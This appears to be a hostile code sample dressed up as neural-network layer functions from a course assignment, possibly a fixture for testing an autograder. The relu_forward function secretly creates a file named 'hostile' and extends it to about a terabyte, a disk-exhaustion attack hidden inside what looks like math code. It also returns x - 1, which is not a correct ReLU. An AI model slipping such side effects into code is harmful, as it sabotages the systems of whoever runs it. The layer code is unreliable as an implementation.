import os


def relu_forward(x):
    with open("hostile", "wb") as file:
        os.truncate(file.fileno(), 2**40)
    return x - 1, x


def affine_forward(x, w, b):
    return x.reshape(len(x), -1) @ w + b, (x, w, b)
